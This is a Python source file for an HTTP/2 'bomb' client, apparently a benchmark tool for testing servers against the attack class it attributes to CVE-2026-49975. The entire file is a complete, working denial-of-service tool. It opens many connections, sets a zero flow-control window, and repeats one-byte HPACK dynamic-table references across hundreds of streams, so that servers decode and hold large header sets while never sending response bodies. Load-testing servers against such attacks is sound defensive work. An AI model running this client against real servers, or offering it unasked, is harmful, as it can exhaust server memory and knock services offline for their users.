#!/usr/bin/env python3
"""HTTP/2 "bomb" client (the attack class of CVE-2026-49975), for bench/h2bomb.sh.

Each connection announces a stream flow-control window of 0 (so no response body can ever be
sent), puts one header into the server's HPACK dynamic table with the first request, then
opens STREAMS-1 more requests whose header blocks are REFS one-byte references to that entry:
a few bytes sent, many header fields decoded and held by the server. The client answers PINGs
and SETTINGS, never sends WINDOW_UPDATE, and holds the connections until told to close.

Prints one JSON line when every stream has been answered (response HEADERS or RST_STREAM) or
the connection was closed: bytes sent, streams answered/refused, and the connections still
open. Then it waits for a line on stdin (or --hold seconds) and closes everything.

Only the standard library: a raw socket per connection, a thread per connection.
"""
import argparse
import json
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
# Response :status from the HPACK static table (an indexed first field), else "other".
STATIC_STATUS = {0x88: "200", 0x89: "204", 0x8A: "206", 0x8B: "304", 0x8C: "400", 0x8D: "404", 0x8E: "500"}
RST_NAMES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL", 11: "ENHANCE_YOUR_CALM"}


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


def hpack_len(n, prefix_bits, first_byte):
    """HPACK integer (RFC 7541 §5.1) with the given prefix."""
    limit = (1 << prefix_bits) - 1
    if n < limit:
        return bytes([first_byte | n])
    out = [first_byte | limit]
    n -= limit
    while n >= 128:
        out.append((n & 0x7F) | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out)


def literal_incremental(name, value):
    """Literal header field with incremental indexing, new name (RFC 7541 §6.2.1)."""
    return b"\x40" + hpack_len(len(name), 7, 0) + name + hpack_len(len(value), 7, 0) + value


class Conn:
    def __init__(self, host, port, authority, streams, refs, value_size, path):
        self.sock = socket.create_connection((host, port), timeout=30)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.streams = streams
        self.refs = refs
        self.value_size = value_size
        self.authority = authority.encode()
        self.path = path.encode()
        self.sent = 0
        self.answered = set()
        self.refused = 0
        self.rst_codes = {}
        self.statuses = {}
        self.closed = False
        self.goaway = False
        self.done = threading.Event()
        self.lock = threading.Lock()

    def send(self, data):
        with self.lock:
            self.sock.sendall(data)
            self.sent += len(data)

    def attack(self):
        # SETTINGS_INITIAL_WINDOW_SIZE (4) = 0, SETTINGS_ENABLE_PUSH (2) = 0.
        self.send(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0) + struct.pack(">HI", 2, 0)))
        threading.Thread(target=self.reader, daemon=True).start()
        # :method GET (static 2), :scheme http (static 6), :path literal never indexed (name 4).
        common = b"\x82\x86" + b"\x04" + hpack_len(len(self.path), 7, 0) + self.path
        # First request: :authority into the dynamic table (name = static 1), then the bomb
        # header; the newest entry has index 62, the authority 63.
        first = (
            common
            + b"\x41" + hpack_len(len(self.authority), 7, 0) + self.authority
            + literal_incremental(b"x-bomb", b"a" * self.value_size)
        )
        self.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, first))
        # Later requests: the path literal again (not indexed), authority and REFS references.
        block = common + bytes([0x80 | 63]) + bytes([0x80 | 62]) * self.refs
        for i in range(1, self.streams):
            if self.closed:
                break
            try:
                self.send(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, block))
            except OSError:
                self.closed = True
                break

    def reader(self):
        buf = b""
        try:
            while True:
                while len(buf) < 9:
                    chunk = self.sock.recv(65536)
                    if not chunk:
                        raise EOFError
                    buf += chunk
                length = int.from_bytes(buf[0:3], "big")
                while len(buf) < 9 + length:
                    chunk = self.sock.recv(65536)
                    if not chunk:
                        raise EOFError
                    buf += chunk
                ftype, flags = buf[3], buf[4]
                stream = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
                payload = buf[9 : 9 + length]
                buf = buf[9 + length :]
                if ftype == SETTINGS and not flags & ACK:
                    self.send(frame(SETTINGS, ACK, 0))
                elif ftype == PING and not flags & ACK:
                    self.send(frame(PING, ACK, 0, payload))
                elif ftype == HEADERS and stream:
                    if stream not in self.answered:
                        status = STATIC_STATUS.get(payload[0], "other") if payload else "none"
                        self.statuses[status] = self.statuses.get(status, 0) + 1
                    self.answered.add(stream)
                elif ftype == RST_STREAM and stream:
                    if stream not in self.answered:
                        self.refused += 1
                    self.answered.add(stream)
                    code = RST_NAMES.get(int.from_bytes(payload[:4], "big"), "other")
                    self.rst_codes[code] = self.rst_codes.get(code, 0) + 1
                elif ftype == GOAWAY:
                    self.goaway = True
                if len(self.answered) >= self.streams:
                    self.done.set()
        except (EOFError, OSError):
            self.closed = True
            self.done.set()

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def merge(dicts):
    out = {}
    for d in dicts:
        for k, v in d.items():
            out[k] = out.get(k, 0) + v
    return out


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--authority", default="bench.local")
    p.add_argument("--path", default="/")
    p.add_argument("--conns", type=int, default=8)
    p.add_argument("--streams", type=int, default=250)
    p.add_argument("--refs", type=int, default=400)
    p.add_argument("--value-size", type=int, default=20)
    p.add_argument("--wait", type=float, default=30, help="most seconds to wait for answers")
    p.add_argument("--hold", type=float, default=0, help="close after this many seconds (0: on a stdin line)")
    a = p.parse_args()

    conns = [Conn(a.host, a.port, a.authority, a.streams, a.refs, a.value_size, a.path) for _ in range(a.conns)]
    threads = [threading.Thread(target=c.attack) for c in conns]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    deadline = time.monotonic() + a.wait
    for c in conns:
        c.done.wait(max(0, deadline - time.monotonic()))
    print(
        json.dumps(
            {
                "sent_bytes": sum(c.sent for c in conns),
                "answered": sum(len(c.answered) for c in conns),
                "open_connections": sum(1 for c in conns if not c.closed),
                "goaway": sum(1 for c in conns if c.goaway),
                "streams_refused_before_answer": sum(c.refused for c in conns),
                "rst_codes": merge(c.rst_codes for c in conns),
                "statuses": merge(c.statuses for c in conns),
            }
        ),
        flush=True,
    )
    if a.hold > 0:
        time.sleep(a.hold)
    else:
        sys.stdin.readline()
    for c in conns:
        c.close()


if __name__ == "__main__":
    main()
